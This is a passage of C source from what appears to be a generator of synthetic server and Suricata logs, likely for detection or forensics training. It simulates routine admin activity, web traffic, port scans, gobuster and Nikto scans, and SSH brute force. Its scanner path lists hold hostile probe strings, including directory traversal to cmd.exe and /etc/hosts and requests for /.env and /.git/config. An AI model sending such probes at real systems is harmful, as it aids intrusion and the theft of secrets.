	uint64_t flow_id;
	unsigned sport;
};

/*
 * nginx does not escape what the generator sends (no quotes, no spaces in
 * targets), so the line can be written as is.
 */
static void web_request(struct gen *g, int64_t ts, const struct request *r)
{
	struct line l = { 0 };

	ln_f(&l, "%s - - [", r->from->ip);
	ln_ts_clf(&l, ts);
	ln_f(&l, "] \"%s %s HTTP/1.1\" %u %u \"%s\" \"%s\"", r->method,
	     r->target, r->status, r->bytes, r->referer ? r->referer : "-",
	     r->ua);
	emit(g, &g->web, ts, &l);

	if (r->plain && g->eve.fd >= 0) {
		struct eve_http h = { NULL, r->target, r->ua, r->method,
				      r->ctype, r->status, r->bytes };

		eve_http(g, ts + 900, r->flow_id, r->from->ip, r->sport,
			 hosts[HOST_WEB01].ip, &h);
	}
}

/* --------------------------------------------------------------- episodes */

enum ep_kind {
	EP_CRON,
	EP_LOGIN,	/* SSH session: user, host, peer, n = seconds */
	EP_SUDO,	/* user, host, n = index into sudo_cmds */
	EP_DEPLOY,	/* the CI job reloading nginx on web01 */
	EP_VISIT,	/* a browser on the site: n = pages */
	EP_CRAWL,	/* a search engine crawler: n = pages */
	EP_HEALTH,
	EP_DNS,		/* host resolves n = index into dns_names */
	EP_UFW_NOISE,	/* one dropped packet from the internet */
	EP_ZGRAB,	/* an unrelated scanner sweeps a few paths */
	EP_POLICY,	/* db01 fetches with curl: a policy alert */
	EP_PORTSCAN,	/* peer sweeps host's ports */
	EP_WEBSCAN,	/* peer runs user = tool, n requests */
	EP_BRUTE,	/* one connection, user = brute_users index, n tries */
	EP_ROOT,	/* the intruder's sudo to root on bastion */
	EP_PERSIST,	/* the intruder's new sudo account */
	EP_EXPLOIT,	/* SQL injection, traversal, injection, webshell */
};

#define EPF_PASSWORD 1	/* log in with a password, not a key */
#define EPF_MISTYPE 2	/* one wrong password first */
#define EPF_PLAIN 4	/* visit starts on http:// */
#define EPF_CACHED 8	/* returning visitor: assets are 304 */

struct episode {
	int64_t ts;
	uint64_t order;		/* schedule order, ties keep it */
	uint8_t kind;
	uint8_t host;
	uint8_t user;
	uint8_t flags;
	uint32_t n;
	struct peer *peer;
};

/* Debian's stock crontabs plus two site jobs. */
static const struct cron_job {
	const char *user;
	unsigned uid;
	unsigned secs;		/* how long the job runs */
	const char *cmd;
} cron_jobs[] = {
	{ "root", 0, 1, "command -v debian-sa1 > /dev/null && debian-sa1 1 1" },
	{ "root", 0, 1, "cd / && run-parts --report /etc/cron.hourly" },
	{ "root", 0, 4, "test -x /usr/sbin/anacron || { cd / && run-parts "
	  "--report /etc/cron.daily; }" },
	{ "www-data", 33, 3, "php /var/www/site/bin/cron.php >/dev/null 2>&1" },
	{ "postgres", 106, 94, "/usr/local/bin/pg-backup --quiet" },
};

enum { CRON_SA1, CRON_HOURLY, CRON_DAILY, CRON_SITE, CRON_BACKUP };

/* Routine commands admins run; host -1 means any. */
static const struct sudo_cmd {
	int host;
	const char *cmd;
} sudo_cmds[] = {
	{ HOST_WEB01, "/usr/sbin/nginx -t" },
	{ HOST_WEB01, "/usr/bin/systemctl reload nginx" },
	{ HOST_WEB01, "/usr/bin/tail -n 200 /var/log/nginx/error.log" },
	{ HOST_DB01, "/usr/bin/systemctl status postgresql@15-main" },
	{ HOST_DB01, "/usr/bin/journalctl -u postgresql@15-main -n 100" },
	{ HOST_DB01, "/usr/bin/du -sh /var/lib/postgresql/15/main" },
	{ -1, "/usr/bin/apt-get update" },
	{ -1, "/usr/bin/apt-get -y upgrade" },
	{ -1, "/usr/bin/systemctl restart unattended-upgrades" },
	{ -1, "/usr/bin/df -h" },
};

#define SUDO_RELOAD 1

/* Names brute-force tools try first; only root and deploy exist. */
static const struct brute_user {
	const char *name;
	bool valid;		/* exists on web01 and bastion */
} brute_users[] = {
	{ "root", true }, { "admin", false }, { "test", false },
	{ "oracle", false }, { "ubuntu", false }, { "user", false },
	{ "guest", false }, { "postgres", false }, { "git", false },
	{ "ftpuser", false }, { "pi", false }, { "support", false },
	{ "test1", false }, { "jenkins", false }, { "hadoop", false },
	{ "mysql", false }, { "nagios", false }, { "ansible", false },
	{ "dev", false }, { "deploy", true },
};

#define BRUTE_DEPLOY (CORE_ARRAY_LEN(brute_users) - 1)

/* What the hosts resolve; answers are documentation addresses. */
static const struct dns_name {
	const char *name;
	const char *addr;
} dns_names[] = {
	{ "deb.debian.org", "198.51.100.81" },
	{ "security.debian.org", "198.51.100.82" },
	{ "0.debian.pool.ntp.org", "198.51.100.90" },
	{ "api.example.com", "198.51.100.140" },
	{ "hooks.example.net", "198.51.100.141" },
	{ "pkg.example.net", "198.51.100.200" },
};

/* Suricata's view of an SSH connection: the banners, then the flow. */
static void eve_ssh(struct gen *g, int64_t start, int64_t end,
		    const char *src, unsigned sport, const char *dst,
		    const char *client)
{
	struct line l;
	uint64_t id = new_flow_id(g);
	struct flow_stats f = { 0 };

	if (g->eve.fd < 0)
		return;
	eve_head(&l, start + 40000, id, "ssh", src, sport, dst, 22, "TCP");
	ln_f(&l, ",\"ssh\":{\"client\":{\"proto_version\":\"2.0\","
	     "\"software_version\":\"%s\"},\"server\":{\"proto_version\":"
	     "\"2.0\",\"software_version\":\"" SSH_SERVER_VERSION "\"}}}",
	     client);
	emit(g, &g->eve, start + 40000, &l);

	f.pkts_ts = 14 + rng_below(&g->rng, 20);
	f.pkts_tc = f.pkts_ts - 2;
	f.bytes_ts = f.pkts_ts * 120ULL + rng_below(&g->rng, 3000);
	f.bytes_tc = f.pkts_tc * 160ULL + rng_below(&g->rng, 3000);
	f.app = "ssh";
	f.state = "closed";
	eve_flow(g, start, end, id, src, sport, dst, 22, "TCP", &f);
}

/*
 * OpenSSH 9 logs the disconnect from the session child (pid + 2 here),
 * PAM closes from the monitor, then logind tears the session down.
 */
static void ssh_session_close(struct gen *g, unsigned host, unsigned pid,
			      const struct user_def *u, const char *ip,
			      unsigned port, unsigned sess, int64_t end)
{
	unsigned logind = hosts[host].logind_pid;

	auth_line(g, end, host, "sshd", pid + 2, "Received disconnect from %s "
		  "port %u:11: disconnected by user", ip, port);
	auth_line(g, end, host, "sshd", pid + 2, "Disconnected from user %s %s "
		  "port %u", u->name, ip, port);
	auth_line(g, end + 1200, host, "sshd", pid, "pam_unix(sshd:session): "
		  "session closed for user %s", u->name);
	auth_line(g, end + 3100, host, "systemd-logind", logind, "Session %u "
		  "logged out. Waiting for processes to exit.", sess);
	auth_line(g, end + 5200, host, "systemd-logind", logind, "Removed "
		  "session %u.", sess);
	if (host == HOST_BASTION) {
		struct line m = { 0 };

		ln_f(&m, "session-%u.scope: Deactivated successfully.", sess);
		m.b[m.n] = '\0';
		journal_line(g, end + 4800, &js_systemd, 1, m.b);
	}
}

/* The part of a login every method shares, from PAM session to logout. */
static void ssh_session(struct gen *g, const struct episode *e, unsigned pid,
			unsigned port, int64_t t)
{
	const struct user_def *u = &users[e->user];
	unsigned sess = ++g->session[e->host];
	unsigned logind = hosts[e->host].logind_pid;
	int64_t end = e->ts + (int64_t)e->n * USEC;

	auth_line(g, t + 2100, e->host, "sshd", pid, "pam_unix(sshd:session): "
		  "session opened for user %s(uid=%u) by (uid=0)", u->name,
		  u->uid);
	auth_line(g, t + 9800, e->host, "systemd-logind", logind, "New session "
		  "%u of user %s.", sess, u->name);
	if (e->host == HOST_BASTION) {
		struct line m = { 0 };

		ln_f(&m, "Started session-%u.scope - Session %u of User %s.",
		     sess, sess, u->name);
		m.b[m.n] = '\0';
		journal_line(g, t + 10400, &js_systemd, 1, m.b);
	}
	if (end < t + 10 * USEC)
		end = t + 10 * USEC;
	ssh_session_close(g, e->host, pid, u, e->peer->ip, port, sess, end);
}

/* A wrong password, then the right one on the same connection. */
static int64_t ssh_mistype(struct gen *g, const struct episode *e,
			   unsigned pid, unsigned port)
{
	const char *name = users[e->user].name;
	int64_t t = e->ts + 2 * USEC + rng_below(&g->rng, 2000000);

	auth_line(g, t, e->host, "sshd", pid, "pam_unix(sshd:auth): "
		  "authentication failure; logname= uid=0 euid=0 tty=ssh "
		  "ruser= rhost=%s  user=%s", e->peer->ip, name);
	t += 1800000 + rng_below(&g->rng, 400000);
	auth_line(g, t, e->host, "sshd", pid, "Failed password for %s from %s "
		  "port %u ssh2", name, e->peer->ip, port);
	e->peer->failed++;
	return t + 3 * USEC + rng_below(&g->rng, 3000000);
}

/*
 * An SSH login with a key or a password, optionally after a typo; the
 * sensor sees it when it crosses the DMZ edge (to bastion, or from an
 * attacker).
 */
static void ep_login(struct gen *g, const struct episode *e)
{
	const struct user_def *u = &users[e->user];
	unsigned pid = next_pid(g, e->host);
	unsigned port = ephemeral_port(g);
	int64_t t = e->ts;
	bool outside = e->host == HOST_BASTION || e->peer->hostile;

	if (e->flags & EPF_MISTYPE)
		t = ssh_mistype(g, e, pid, port);
	if (e->flags & EPF_PASSWORD) {
		t += 600000 + rng_below(&g->rng, 1500000);
		auth_line(g, t, e->host, "sshd", pid, "Accepted password for "
			  "%s from %s port %u ssh2", u->name, e->peer->ip,
			  port);
	} else {
		t += 150000 + rng_below(&g->rng, 200000);
		auth_line(g, t, e->host, "sshd", pid, "Accepted publickey for "
			  "%s from %s port %u ssh2: ED25519 SHA256:%s", u->name,
			  e->peer->ip, port, g->fp[e->user]);
	}
	ssh_session(g, e, pid, port, t);
	if (outside)
		eve_ssh(g, e->ts, e->ts + (int64_t)e->n * USEC, e->peer->ip,
			port, hosts[e->host].ip, e->peer->hostile ?
			"libssh2_1.10.0" : "OpenSSH_9.6");
}

/* sudo right-aligns the user name in eight columns. */
static const char *pad8(const char *name)
{
	static const char spaces[] = "        ";
	size_t n = strlen(name);

	return spaces + (n < 8 ? n : 8);
}

/* sudo logs the command, then PAM opens and later closes root's session. */
static void sudo_session(struct gen *g, int64_t t, unsigned host,
			 const struct user_def *u, const char *cmd,
			 int64_t end)
{
	unsigned pts = (unsigned)(u - users) % 3;

	auth_line(g, t, host, "sudo", 0, "%s%s : TTY=pts/%u ; PWD=/home/%s ; "
		  "USER=root ; COMMAND=%s", pad8(u->name), u->name, pts,
		  u->name, cmd);
	auth_line(g, t + 900, host, "sudo", 0, "pam_unix(sudo:session): "
		  "session opened for user root(uid=0) by %s(uid=%u)", u->name,
		  u->uid);
	auth_line(g, end, host, "sudo", 0, "pam_unix(sudo:session): session "
		  "closed for user root");
}

/* One wrong password at the sudo prompt, as pam_unix reports it. */
static void sudo_auth_failure(struct gen *g, int64_t t, unsigned host,
			      const struct user_def *u)
{
	unsigned pts = (unsigned)(u - users) % 3;

	auth_line(g, t, host, "sudo", 0, "pam_unix(sudo:auth): authentication "
		  "failure; logname=%s uid=%u euid=0 tty=/dev/pts/%u ruser=%s "
		  "rhost=  user=%s", u->name, u->uid, pts, u->name, u->name);
}

/* A routine admin command; with EPF_MISTYPE a typo comes first. */
static void ep_sudo(struct gen *g, const struct episode *e)
{
	const struct user_def *u = &users[e->user];
	int64_t t = e->ts;

	if (e->flags & EPF_MISTYPE) {
		sudo_auth_failure(g, t, e->host, u);
		t += 4 * USEC + rng_below(&g->rng, 3000000);
	}
	sudo_session(g, t, e->host, u, sudo_cmds[e->n].cmd,
		     t + USEC + rng_below(&g->rng, 20000000));
}

/* The CI runner logs in with its key and reloads nginx (NOPASSWD). */
static void ep_deploy(struct gen *g, const struct episode *e)
{
	struct episode login = *e;

	login.user = USER_DEPLOY;
	login.host = HOST_WEB01;
	login.peer = g->ci;
	login.flags = 0;
	login.n = 20 + rng_below(&g->rng, 25);
	ep_login(g, &login);
	sudo_session(g, e->ts + 7 * USEC, HOST_WEB01, &users[USER_DEPLOY],
		     sudo_cmds[SUDO_RELOAD].cmd, e->ts + 8 * USEC);
}

/*
 * pam_unix session lines go to auth.log; the CMD line goes to syslog,
 * so only bastion's journal shows it.
 */
static void ep_cron(struct gen *g, const struct episode *e)
{
	const struct cron_job *j = &cron_jobs[e->n];
	unsigned pid = next_pid(g, e->host);
	int64_t end = e->ts + (int64_t)j->secs * USEC +
		      rng_below(&g->rng, 400000);

	auth_line(g, e->ts, e->host, "CRON", pid, "pam_unix(cron:session): "
		  "session opened for user %s(uid=%u) by (uid=0)", j->user,
		  j->uid);
	if (e->host == HOST_BASTION) {
		struct line m = { 0 };

		ln_f(&m, "(%s) CMD (%s)", j->user, j->cmd);
		m.b[m.n] = '\0';
		journal_line(g, e->ts + 1700, &js_cron, pid, m.b);
	}
	auth_line(g, end, e->host, "CRON", pid, "pam_unix(cron:session): "
		  "session closed for user %s", j->user);
}

/* ------------------------------------------------------------- web site */

static unsigned asset_status(const struct episode *e)
{
	return (e->flags & EPF_CACHED) ? 304 : 200;
}

/* The page's static assets, fetched in parallel right after it. */
static int64_t visit_assets(struct gen *g, const struct episode *e,
			    struct request *r, const char *page_url,
			    int64_t t)
{
	r->referer = page_url;
	for (size_t i = 0; i < CORE_ARRAY_LEN(assets); i++) {
		t += 20000 + rng_below(&g->rng, 90000);
		r->target = assets[i].path;
		r->status = asset_status(e);
		r->bytes = r->status == 200 ? assets[i].bytes : 0;
		web_request(g, t, r);
	}
	return t;
}

/* A 301 from http:// to https://, the only part the sensor can read. */
static int64_t visit_redirect(struct gen *g, struct request *r, int64_t t)
{
	r->plain = true;
	r->flow_id = new_flow_id(g);
	r->sport = ephemeral_port(g);
	r->target = "/";
	r->status = 301;
	r->bytes = 169;
	r->ctype = "text/html";
	web_request(g, t, r);
	r->plain = false;
	return t + 150000 + rng_below(&g->rng, 100000);
}

/* HTTPS is opaque to the sensor: a tls record (SNI) and the flow. */
static void visit_tls(struct gen *g, const struct episode *e, int64_t end,
		      uint64_t bytes)
{
	struct line l;
	uint64_t id = new_flow_id(g);
	unsigned sport = ephemeral_port(g);
	struct flow_stats f = { 0 };

	if (g->eve.fd < 0)
		return;
	eve_head(&l, e->ts + 60000, id, "tls", e->peer->ip, sport,
		 hosts[HOST_WEB01].ip, 443, "TCP");
	ln_str(&l, ",\"tls\":{\"sni\":\"" SITE "\",\"version\":\"TLS 1.3\"}}");
	emit(g, &g->eve, e->ts + 60000, &l);

	f.pkts_ts = 12 + (unsigned)(bytes / 9000);
	f.pkts_tc = 10 + (unsigned)(bytes / 1400);
	f.bytes_ts = 1800 + f.pkts_ts * 90ULL;
	f.bytes_tc = bytes + f.pkts_tc * 66ULL;
	f.app = "tls";
	f.state = "closed";
	eve_flow(g, e->ts, end, id, e->peer->ip, sport, hosts[HOST_WEB01].ip,
		 443, "TCP", &f);
}

/* Where visitors come from: mostly typed or bookmarked. */
static const char *const referers[] = {
	NULL, NULL, "https://search.example.org/", "https://news.example.net/",
};

/*
 * A browser session: a landing page with its assets, then e->n - 1 more
 * pages after reading times, now and then a stale link's 404.
 */
static void ep_visit(struct gen *g, const struct episode *e)
{
	struct request r = { .from = e->peer, .method = "GET",
			     .ua = browser_uas[e->peer->ua] };
	struct line url = { 0 };
	int64_t t = e->ts;
	uint64_t bytes = 0;
	size_t pi = rng_below(&g->rng, 4) ? 0 : rng_below(&g->rng,
		    CORE_ARRAY_LEN(pages));

	r.referer = referers[rng_below(&g->rng, CORE_ARRAY_LEN(referers))];
	if (e->flags & EPF_PLAIN)
		t = visit_redirect(g, &r, t);
	for (unsigned i = 0; i < e->n; i++) {
		const struct page_def *p = &pages[pi];

		r.target = p->path;
		r.status = 200;
		r.bytes = (unsigned)rng_range(&g->rng, p->min_bytes,
					      p->max_bytes);
		web_request(g, t, &r);
		bytes += r.bytes;
		ln_reset(&url);
		ln_f(&url, "https://" SITE "%s", p->path);
		url.b[url.n] = '\0';
		if (i == 0)
			t = visit_assets(g, e, &r, url.b, t);
		if (rng_pct(&g->rng, 4)) {
			r.target = stale_paths[rng_below(&g->rng,
					CORE_ARRAY_LEN(stale_paths))];
			r.status = 404;
			r.bytes = 3412;
			web_request(g, t + 30000, &r);
		}
		r.referer = url.b;
		t += 4 * USEC + rng_below(&g->rng, 80000000);
		pi = rng_below(&g->rng, CORE_ARRAY_LEN(pages));
	}
	visit_tls(g, e, t, bytes);
}

/* A crawler reads robots.txt, then pages; old links give 404s. */
static void ep_crawl(struct gen *g, const struct episode *e)
{
	struct request r = { .from = e->peer, .method = "GET",
			     .ua = UA_CRAWLER };
	int64_t t = e->ts;

	r.target = "/robots.txt";
	r.status = 200;
	r.bytes = 67;
	web_request(g, t, &r);
	for (unsigned i = 0; i < e->n; i++) {
		const struct page_def *p = &pages[rng_below(&g->rng,
					CORE_ARRAY_LEN(pages))];

		t += 2 * USEC + rng_below(&g->rng, 30000000);
		r.target = p->path;
		r.status = 200;
		r.bytes = (unsigned)rng_range(&g->rng, p->min_bytes,
					      p->max_bytes);
		if (rng_pct(&g->rng, 10)) {
			r.target = stale_paths[rng_below(&g->rng,
					CORE_ARRAY_LEN(stale_paths))];
			r.status = 404;
			r.bytes = 3412;
		}
		web_request(g, t, &r);
	}
}

static void ep_health(struct gen *g, const struct episode *e)
{
	struct request r = { .from = e->peer, .method = "GET",
			     .target = "/healthz", .status = 200, .bytes = 3,
			     .ua = UA_MONITOR };

	web_request(g, e->ts, &r);
}

/* A query and its answer through the internal resolver. */
static void ep_dns(struct gen *g, const struct episode *e)
{
	const struct dns_name *d = &dns_names[e->n];
	const char *me = hosts[e->host].ip;
	unsigned sport = ephemeral_port(g);
	unsigned id = rng_below(&g->rng, 65536);
	uint64_t flow = new_flow_id(g);
	struct line l;

	eve_head(&l, e->ts, flow, "dns", me, sport, RESOLVER, 53, "UDP");
	ln_f(&l, ",\"dns\":{\"type\":\"query\",\"id\":%u,\"rrname\":\"%s\","
	     "\"rrtype\":\"A\",\"tx_id\":0,\"opcode\":0}}", id, d->name);
	emit(g, &g->eve, e->ts, &l);

	eve_head(&l, e->ts + 900 + rng_below(&g->rng, 4000), flow, "dns",
		 RESOLVER, 53, me, sport, "UDP");
	ln_f(&l, ",\"dns\":{\"version\":2,\"type\":\"answer\",\"id\":%u,"
	     "\"flags\":\"8180\",\"qr\":true,\"rd\":true,\"ra\":true,"
	     "\"opcode\":0,\"rrname\":\"%s\",\"rrtype\":\"A\",\"rcode\":"
	     "\"NOERROR\",\"answers\":[{\"rrname\":\"%s\",\"rrtype\":\"A\","
	     "\"ttl\":%u,\"rdata\":\"%s\"}]}}", id, d->name, d->name,
	     60 + rng_below(&g->rng, 240), d->addr);
	emit(g, &g->eve, e->ts + 5000, &l);
}

/* A kernel netfilter drop on bastion, as ufw logs it. */
static void ufw_block(struct gen *g, int64_t ts, const char *src,
		      unsigned sport, unsigned dport, bool syn_scan)
{
	struct line m = { 0 };

	ln_f(&m, "[UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:4e:a1:05:52:54:00:"
	     "1c:9e:01:08:00 SRC=%s DST=%s LEN=%u TOS=0x00 PREC=0x00 "
	     "TTL=%u ID=%u PROTO=TCP SPT=%u DPT=%u WINDOW=%u RES=0x00 SYN "
	     "URGP=0 ", src, hosts[HOST_BASTION].ip, syn_scan ? 44 : 60,
	     syn_scan ? 41 : 50 + rng_below(&g->rng, 8), syn_scan ? 54321 :
	     rng_below(&g->rng, 65536), sport, dport,
	     syn_scan ? 1024 : 64240);
	m.b[m.n] = '\0';
	journal_line(g, ts, &js_kernel, 0, m.b);
}

/* Internet background: one SYN to a closed port, dropped. */
static void ep_ufw_noise(struct gen *g, const struct episode *e)
{
	static const unsigned ports[] = { 23, 445, 3389, 5900, 2323, 6379,
					  8080, 1433 };

	ufw_block(g, e->ts, e->peer->ip, ephemeral_port(g),
		  ports[rng_below(&g->rng, CORE_ARRAY_LEN(ports))], false);
}

/* Requests as a tool sends them: same peer, same user agent. */
static void tool_request(struct gen *g, int64_t ts, struct request *r,
			 const char *target, unsigned status, unsigned bytes)
{
	r->target = target;
	r->status = status;
	r->bytes = bytes;
	r->ctype = status == 200 ? "text/html" : "text/html; charset=utf-8";
	r->flow_id = new_flow_id(g);
	r->sport = ephemeral_port(g);
	web_request(g, ts, r);
}

/* An internet-wide scanner: a handful of well-known paths, then gone. */
static void ep_zgrab(struct gen *g, const struct episode *e)
{
	static const char *const paths[] = {
		"/.env", "/wp-login.php", "/.git/config", "/actuator/health",
		"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
		"/cgi-bin/luci/;stok=/locale",
	};
	struct request r = { .from = e->peer, .method = "GET",
			     .ua = "Mozilla/5.0 zgrab/0.x", .plain = true };
	int64_t t = e->ts;

	tool_request(g, t, &r, "/", 301, 169);
	for (size_t i = 0; i < CORE_ARRAY_LEN(paths); i++) {
		t += 300000 + rng_below(&g->rng, 2000000);
		tool_request(g, t, &r, paths[i], 404, 3412);
	}
}

/* db01 downloads a package with curl: one low-severity policy alert. */
static void ep_policy(struct gen *g, const struct episode *e)
{
	const char *src = hosts[HOST_DB01].ip;
	const char *dst = dns_names[5].addr;
	unsigned sport = ephemeral_port(g);
	uint64_t id = new_flow_id(g);
	struct eve_http h = { "pkg.example.net", "/tools/pgbadger-12.4.tar.gz",
			      "curl/7.88.1", "GET", "application/gzip", 200,
			      2811342 };
	struct flow_stats f = { 21, 1950, 1422, 2941000, "http", "closed" };
	struct line l;

	eve_alert(g, e->ts + 2000, id, src, sport, dst, 80, &sig_curl, &h);
	eve_head(&l, e->ts + 2500, id, "http", src, sport, dst, 80, "TCP");
	ln_str(&l, ",\"tx_id\":0");
	ln_eve_http(&l, &h);
	ln_chr(&l, '}');
	emit(g, &g->eve, e->ts + 2500, &l);
	eve_flow(g, e->ts, e->ts + 4 * USEC, id, src, sport, dst, 80, "TCP",
		 &f);
}

/* ---------------------------------------------------------------- attack */

/* What a port answers: open ones complete the handshake. */
static bool port_open(unsigned host, unsigned port)
{
	if (port == 22)
		return true;
	return host == HOST_WEB01 && (port == 80 || port == 443);
}

/* sshd's view of a port-scan probe: no banner, or garbage instead. */
static void ssh_probe(struct gen *g, int64_t ts, unsigned host,
		      const char *ip, bool version_probe)
{
	unsigned pid = next_pid(g, host);
	unsigned port = ephemeral_port(g);

	if (version_probe) {
		auth_line(g, ts, host, "sshd", pid, "error: "
			  "kex_exchange_identification: client sent invalid "
			  "protocol identifier \"GET / HTTP/1.0\"");
		auth_line(g, ts + 300, host, "sshd", pid, "banner exchange: "
			  "Connection from %s port %u: invalid format", ip,
			  port);
		return;
	}
	auth_line(g, ts, host, "sshd", pid, "error: kex_exchange_identification"
		  ": Connection closed by remote host");
	auth_line(g, ts + 200, host, "sshd", pid, "Connection closed by %s "
		  "port %u", ip, port);
}

/* Which signature a probe of port raises, if any. */
static const struct sig *scan_sig(unsigned port, bool first)
{
	if (port == 22)
		return &sig_ssh_scan;
	if (port == 3306)
		return &sig_mysql;
	if (port == 5432)
		return &sig_pgsql;
	return first ? &sig_nmap_ss : NULL;
}

/* One SYN probe: a flow, maybe an alert, a ufw drop on bastion. */
static void scan_port(struct gen *g, int64_t t, const struct episode *e,
		      unsigned port, bool first)
{
	const char *dst = hosts[e->host].ip;
	uint64_t id = new_flow_id(g);
	unsigned sport = 40000 + rng_below(&g->rng, 20000);
	bool open = port_open(e->host, port);
	struct flow_stats f = { 1, open ? 1 : 0, 58, open ? 58 : 0, NULL,
				"new" };
	const struct sig *s = scan_sig(port, first);

	if (g->eve.fd >= 0) {
		if (s)
			eve_alert(g, t + 50, id, e->peer->ip, sport, dst, port,
				  s, NULL);
		eve_flow(g, t, t + 30000, id, e->peer->ip, sport, dst, port,
			 "TCP", &f);
	}
	if (e->host == HOST_BASTION && !open)
		ufw_block(g, t + 20, e->peer->ip, sport, port, true);
}

/* A SYN sweep of well-known ports, then a version probe of what answered. */
static void ep_portscan(struct gen *g, const struct episode *e)
{
	static const unsigned ports[] = {
		21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445,
		587, 993, 995, 1433, 1521, 2049, 3306, 3389, 5432, 5900, 5985,
		6379, 8000, 8080, 8443, 8888, 9200, 11211, 27017,
	};
	int64_t t = e->ts;

	for (unsigned round = 0; round < e->n; round++) {
		for (size_t i = 0; i < CORE_ARRAY_LEN(ports); i++) {
			t += 3000 + rng_below(&g->rng, 40000);
			scan_port(g, t, e, ports[i], round == 0 && i == 0);
		}
		t += 2 * USEC + rng_below(&g->rng, 5000000);
	}
	ssh_probe(g, t + 900000, e->host, e->peer->ip, false);
	ssh_probe(g, t + 4 * USEC, e->host, e->peer->ip, true);
}

/* A short directory wordlist, tried bare and with three extensions. */
static const char *const dirb_words[] = {
	"admin", "administrator", "backup", "backups", "config", "db", "dev",
	"old", "test", "tmp", "uploads", "images", "api", "login", "private",
	"secret", "server-status", "phpmyadmin", "wp-admin", "wp-login.php",
	".git/HEAD", ".env", ".htaccess", ".htpasswd", "console", "dashboard",
	"panel", "cgi-bin/", "shell.php", "info.php", "phpinfo.php",
	"readme.txt", "robots.txt", "sitemap.xml", "backup.zip",
	"site.tar.gz", "db.sql", "dump.sql", "config.php.bak", ".DS_Store",
	"vendor", "composer.json", "package.json", "debug", "status",
	"metrics", "jenkins", "manager/html", "webmail", "download",
	"include", "static", "data", "export", "cache", "logs", "staging",
	"beta", "portal", "user", "account", "files", "media", "assets",
	"server-info", "xmlrpc.php", "cron.php", "install", "setup",
};

/* What the site answers for a brute-forced path. */
static unsigned dirb_status(const char *word, unsigned *bytes)
{
	static const struct { const char *w; unsigned st, bytes; } known[] = {
		{ "login", 200, 6120 }, { "robots.txt", 200, 67 },
		{ "uploads", 301, 169 }, { "static", 301, 169 },
		{ "images", 301, 169 }, { "admin", 403, 548 },
		{ "server-status", 403, 548 }, { "download", 400, 157 },
		{ "api", 404, 3412 }, { "assets", 301, 169 },
	};

	for (size_t i = 0; i < CORE_ARRAY_LEN(known); i++) {
		if (strcmp(word, known[i].w) == 0) {
			*bytes = known[i].bytes;
			return known[i].st;
		}
	}
	*bytes = 3412;
	return 404;
}

/* Paths of the kind Nikto checks: old CGI, admin consoles, leaks. */
static const char *const nikto_paths[] = {
	"/cgi-bin/test-cgi", "/cgi-bin/php.cgi", "/cgi-bin/printenv",
	"/admin/config.php", "/iisadmin/", "/servlet/SnoopServlet",
	"/.svn/entries", "/CFIDE/administrator/index.cfm",
	"/wordpress/wp-config.php.bak", "/phpMyAdmin/setup/index.php",
	"/server-info", "/jmx-console/", "/axis2/axis2-admin/",
	"/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
	"/index.php?page=../../../../../../etc/hosts", "/examples/jsp/",
	"/tomcat-docs/", "/htbin/", "/horde/imp/test.php", "/shopping/",
	"/catinfo?<u>", "/forum/admin/", "/moodle/", "/docs/api/../../",
	"/.bash_history", "/crossdomain.xml", "/clientaccesspolicy.xml",
	"/readme.html", "/WEB-INF/web.xml", "/localstart.asp",
};

/* gobuster: fast, one wordlist pass per extension, mostly 404s. */
static void webscan_dirb(struct gen *g, const struct episode *e)
{
	static const char *const exts[] = { "", ".php", ".bak", ".txt" };
	struct request r = { .from = e->peer, .method = "GET",
			     .ua = "gobuster/3.6", .plain = true };
	struct line target;
	int64_t t = e->ts;

	for (unsigned i = 0; i < e->n; i++) {
		const char *w = dirb_words[i % CORE_ARRAY_LEN(dirb_words)];
		const char *x = exts[i / CORE_ARRAY_LEN(dirb_words) % 4];
		unsigned bytes, st = dirb_status(w, &bytes);

		ln_reset(&target);
		ln_f(&target, "/%s%s", w, x);
		target.b[target.n] = '\0';
		if (*x)
			st = 404, bytes = 3412;
		t += 20000 + rng_below(&g->rng, 120000);
		tool_request(g, t, &r, target.b, st, bytes);
	}
}

/* Nikto: test ids in the user agent, odd methods, an alert now and then. */
static void webscan_nikto(struct gen *g, const struct episode *e)
{
	struct request r = { .from = e->peer, .plain = true };
	struct line ua, target;
	int64_t t = e->ts;

	for (unsigned i = 0; i < e->n; i++) {
		ln_reset(&ua);
		ln_f(&ua, "Mozilla/5.0 (Nikto/2.5.0) (Evasions:None) "
		     "(Test:%u)", 1000 + i * 7);
		ua.b[ua.n] = '\0';
		ln_reset(&target);
		ln_str(&target, nikto_paths[i % CORE_ARRAY_LEN(nikto_paths)]);
		target.b[target.n] = '\0';
		r.ua = ua.b;
		r.method = i % 17 == 5 ? "OPTIONS" : i % 23 == 9 ? "TRACE" :
			   "GET";
		t += 30000 + rng_below(&g->rng, 200000);
		tool_request(g, t, &r, target.b, *r.method == 'G' ? 404 : 405,
			     *r.method == 'G' ? 3412 : 157);
		if (i % 20 == 0 && g->eve.fd >= 0) {
			struct eve_http h = { NULL, target.b, r.ua, r.method,
					      r.ctype, r.status, r.bytes };

			eve_alert(g, t + 800, r.flow_id, e->peer->ip, r.sport,
				  hosts[HOST_WEB01].ip, 80, &sig_nikto, &h);
		}
	}
}

static void ep_webscan(struct gen *g, const struct episode *e)
{
	if (e->user == 0)
		webscan_dirb(g, e);
	else
		webscan_nikto(g, e);
}

/*
 * How sshd ends a failed connection: after MaxAuthTries (6) it disconnects
 * with "Too many authentication failures"; earlier the client closes or
 * says Bye Bye.  PAM then sums up the extra failures.
 */
static void brute_close(struct gen *g, const struct episode *e, int64_t t,
			unsigned pid, unsigned port)
{
	const struct brute_user *b = &brute_users[e->user];
	const char *who = b->valid ? "authenticating user" : "invalid user";
	const char *inv = b->valid ? "" : "invalid user ";
	const char *ip = e->peer->ip;
	struct line pam = { 0 };

	if (b->valid)
		ln_f(&pam, "  user=%s", b->name);
	pam.b[pam.n] = '\0';
	if (e->n >= 6) {
		auth_line(g, t, e->host, "sshd", pid, "error: maximum "
			  "authentication attempts exceeded for %s%s from %s "
			  "port %u ssh2 [preauth]", inv, b->name, ip, port);
		auth_line(g, t, e->host, "sshd", pid, "Disconnecting %s %s %s "
			  "port %u: Too many authentication failures "
			  "[preauth]", who, b->name, ip, port);
	} else if (e->n > 1 || rng_pct(&g->rng, 50)) {
		auth_line(g, t, e->host, "sshd", pid, "Connection closed by %s "
